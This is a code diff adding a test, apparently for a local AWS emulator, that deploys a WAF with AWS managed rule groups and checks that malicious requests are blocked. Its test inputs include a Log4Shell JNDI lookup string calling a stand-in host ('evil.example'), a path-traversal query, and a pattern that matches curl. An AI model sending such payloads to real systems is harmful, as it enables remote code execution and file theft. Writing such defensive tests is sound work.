@@ -217,3 +217,62 @@ def test_a_paid_managed_rule_group_fails_the_web_acl_with_wafs_error(labcloud: L
         and "WAFInvalidParameterException" in str(reasons[0])
         and "Bot Control (a paid feature)" in str(reasons[0])
     )
+
+
+def test_aws_managed_rule_groups_in_a_stack_filter_its_api(labcloud: LabcloudProcess, wafv2: Any) -> None:
+    body = template("(?i)^curl")
+    body["Resources"]["Acl"]["Properties"]["Rules"] = [
+        {
+            "Name": "AWS-AWSManagedRulesCommonRuleSet",
+            "Priority": 0,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesCommonRuleSet",
+                    "Version": "Version_1.0",
+                    "ExcludedRules": [{"Name": "SizeRestrictions_QUERYSTRING"}],
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("crs"),
+        },
+        {
+            "Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet",
+            "Priority": 1,
+            "Statement": {
+                "ManagedRuleGroupStatement": {
+                    "VendorName": "AWS",
+                    "Name": "AWSManagedRulesKnownBadInputsRuleSet",
+                    "ScopeDownStatement": {
+                        "ByteMatchStatement": {
+                            "SearchString": "GET",
+                            "FieldToMatch": {"Method": {}},
+                            "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
+                            "PositionalConstraint": "EXACTLY",
+                        }
+                    },
+                }
+            },
+            "OverrideAction": {"None": {}},
+            "VisibilityConfig": vis("kbi"),
+        },
+    ]
+    cfn = labcloud.boto3_client("cloudformation")
+    cfn.create_stack(StackName="managed-ok", TemplateBody=json.dumps(body))
+    stack = wait_stack(cfn, "managed-ok")
+    assert stack["StackStatus"] == "CREATE_COMPLETE", events(cfn, "managed-ok")
+    out = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
+    assert out["Capacity"] == "902"  # 700 + 200 + the scope-down byte match's 2
+    api = out["Api"]
+    assert call(labcloud, api)[0] == 200
+    assert call(labcloud, api, "/items?q=" + "a" * 2100)[0] == 200  # excluded: counted only
+    assert call(labcloud, api, "/items?f=..%2F..%2Fkeys")[0] == 403  # GenericLFI_QUERYARGUMENTS
+    assert call(labcloud, api, X_Api="${jndi:ldap://evil.example/a}")[0] == 403  # Log4JRCE_HEADER
+    name, acl_id, scope = out["AclRef"].split("|")
+    got = wafv2.get_web_acl(Name=name, Scope=scope, Id=acl_id)["WebACL"]["Rules"][1]["Statement"]
+    assert (
+        got["ManagedRuleGroupStatement"]["ScopeDownStatement"]["ByteMatchStatement"]["SearchString"] == b"GET"
+    )
+    cfn.delete_stack(StackName="managed-ok")
+    assert wait_stack(cfn, stack["StackId"])["StackStatus"] == "DELETE_COMPLETE"
+    assert wafv2.list_web_acls(Scope="REGIONAL")["WebACLs"] == []
